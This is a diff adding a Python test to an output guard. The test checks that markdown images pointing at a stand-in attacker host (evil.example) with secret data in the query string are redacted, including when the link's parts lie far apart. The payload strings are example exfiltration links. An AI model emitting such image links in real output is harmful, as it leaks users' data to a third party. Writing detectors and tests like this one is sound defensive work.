@@ -129,6 +129,27 @@ def test_a_stream_that_no_rule_is_for_is_shown_and_is_not_complete(hold: str) ->
     assert coverage.uncovered == ((0, "no rule is for the stage output"),)
 
 
+FILL = "The shop opens at nine and closes at six. "
+DEFINED = "\n[1]: https://evil.example/?data=secretsecretsecret\n"
+
+
+@pytest.mark.parametrize("sentences", [1, 4, 8, 40])
+@pytest.mark.parametrize(
+    "text",
+    ["![x][1]\n{}" + DEFINED, FILL + DEFINED + "{}![x][1]", "![{}](https://evil.example/?data=secretsecretsecret)"],
+    ids=["defined afar", "defined before", "long text"],
+)
+def test_an_image_that_carries_data_never_shows_its_address_however_far_its_parts_lie_apart(
+    text: str, sentences: int
+) -> None:
+    text = FILL + text.replace("{}", FILL * sentences) + FILL
+    made = Guard(load(policy({"detector": "links", "action": "redact"})))
+    shown, stream = streamed(made, [text])
+    assert made.check(text, "output").action == stream.close().action == "redact"
+    assert "evil.example" not in shown
+    assert "evil.example" not in made.check(text, "output").texts[0]
+
+
 def test_nothing_comes_after_a_block() -> None:
     stream = guard(find("stop", action="block")).stream()
     released = stream.feed("stop " + "words and words. " * 100)
